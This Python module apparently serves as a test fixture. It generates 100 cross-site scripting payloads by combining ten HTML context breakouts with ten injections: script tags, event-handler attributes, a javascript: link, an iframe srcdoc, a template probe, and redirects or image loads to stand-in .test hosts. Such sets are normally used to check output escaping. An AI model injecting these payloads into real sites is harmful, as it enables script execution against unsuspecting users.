"""A hundred texts that would run a script, or ask another host, in a page that does not escape them: ten ways
out of where a text may stand, each with ten things to do there."""

from __future__ import annotations

from typing import Final

_WAYS_OUT: Final = ("", '">', "'>", "</textarea>", "</title>", "</pre>", "-->", "</script>", "]]>", "`>")
_DEEDS: Final = (
    "<script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<svg onload=alert({n})>",
    '<iframe srcdoc="<script>parent.alert({n})</script>">',
    "<details open ontoggle=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<a href=javascript:alert({n})>go</a>",
    "{{{{().__class__}}}}<b onclick=alert({n})>",
    '<meta http-equiv=refresh content="0;//x.test/{n}">',
    "<img src=//elsewhere.test/{n}>",
)
SCRIPTS: Final = tuple(
    way + deed.format(n=place * len(_DEEDS) + number)
    for place, way in enumerate(_WAYS_OUT)
    for number, deed in enumerate(_DEEDS)
)
assert len(set(SCRIPTS)) == 100
